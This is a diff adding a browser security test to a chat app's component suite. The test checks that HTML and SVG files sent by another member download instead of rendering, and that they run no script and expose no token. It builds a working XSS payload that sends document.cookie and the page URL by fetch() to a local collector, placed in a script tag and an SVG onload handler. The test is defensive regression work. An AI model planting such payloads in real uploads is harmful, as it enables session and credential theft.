@@ -1,4 +1,5 @@
 import { mkdirSync } from 'node:fs';
+import { createServer } from 'node:http';
 import { fileURLToPath } from 'node:url';
 import type { TypingEvent } from '@chat4all/sdk-js';
 import type { Browser } from 'playwright-core';
@@ -95,5 +96,85 @@ describe('components in real Chromium', () => {
     await page.waitForSelector('[data-seq="301"] [data-status]');
     await page.screenshot({ path: `${SCREENSHOTS}components-sent.png` });
     peer.close();
+  });
+
+  it('opening another member’s HTML or SVG file from the MessageList runs no script and shows no token', async () => {
+    // Anything a script in the file manages to send lands here.
+    const reports: string[] = [];
+    const collector = createServer((request, response) => {
+      reports.push(request.url ?? '');
+      response.end();
+    });
+    await new Promise<void>((resolve) => collector.listen(0, '127.0.0.1', resolve));
+    const collectorUrl = `http://127.0.0.1:${(collector.address() as { port: number }).port}`;
+    const steal = `fetch('${collectorUrl}/ran?' + encodeURIComponent(location.href + ' ' + document.cookie))`;
+    try {
+      const victimToken = await userToken(relay.url, 'victim');
+      const attacker = makeClient(relay.url, await userToken(relay.url, 'attacker'));
+      await attacker.connect();
+      const created = await fetch(`${relay.url}/v1/conversations`, {
+        method: 'POST',
+        headers: { authorization: `Bearer ${API_KEY}`, 'content-type': 'application/json' },
+        body: JSON.stringify({ type: 'private', userId: 'victim', createdBy: 'attacker' }),
+      });
+      const conversationId = ((await created.json()) as { id: string }).id;
+      const files = [
+        { name: 'invoice.html', type: 'text/html', body: `<html><body><script>${steal}</script>invoice</body></html>` },
+        {
+          name: 'logo.svg',
+          type: 'image/svg+xml',
+          body: `<svg xmlns="http://www.w3.org/2000/svg" onload="${steal}"><script>${steal}</script></svg>`,
+        },
+      ];
+      for (const file of files)
+        await attacker.sendFile(conversationId, new TextEncoder().encode(file.body), { name: file.name, type: file.type });
+
+      const context = await browser.newContext({ acceptDownloads: true });
+      const page = await context.newPage();
+      page.setDefaultTimeout(10_000);
+      await page.goto(
+        `${site.url}/?relay=${encodeURIComponent(relay.url)}&token=${victimToken}&me=victim&peer=attacker&conversation=${conversationId}`,
+      );
+      for (const file of files) {
+        const link = page.locator('a', { hasText: file.name });
+        await link.waitFor();
+        const href = (await link.getAttribute('href')) ?? '';
+        expect(href).toMatch(/\/v1\/uploads\/[0-9a-f]+\?user=victim&expires=\d+&signature=/);
+        expect(href).not.toContain(victimToken);
+        expect(href).not.toContain('access_token');
+        // Clicked as a user would: the file downloads (Content-Disposition: attachment) instead of rendering at the relay's origin.
+        const downloaded = new Promise<{ suggestedFilename(): string }>((resolve) => {
+          page.once('download', resolve);
+          context.once('page', (tab) => tab.once('download', resolve));
+        });
+        await link.click();
+        const download = await downloaded;
+        expect(download.suggestedFilename()).toBe(file.name);
+        // Opened directly in a tab: still a download, never a document.
+        const tab = await context.newPage();
+        const direct = tab.waitForEvent('download');
+        await tab.goto(href).catch(() => {});
+        expect((await direct).suggestedFilename()).toBe(file.name);
+        await tab.close();
+      }
+      // The SVG shown inline goes through an <img>, where SVG runs no script.
+      await page.waitForSelector('img[alt="logo.svg"]');
+      await page.screenshot({ path: `${SCREENSHOTS}components-hostile-files.png` });
+      const headers = await page.evaluate(
+        async (url) => {
+          const response = await fetch(url);
+          return { csp: response.headers.get('content-security-policy'), nosniff: response.headers.get('x-content-type-options') };
+        },
+        (await page.locator('a', { hasText: 'invoice.html' }).getAttribute('href')) ?? '',
+      );
+      expect(headers.nosniff).toBe('nosniff');
+      expect(headers.csp).toContain('sandbox');
+      // Nothing ran: a script would have reported within the page loads awaited above.
+      expect(reports).toEqual([]);
+      attacker.close();
+      await context.close();
+    } finally {
+      collector.close();
+    }
   });
 });
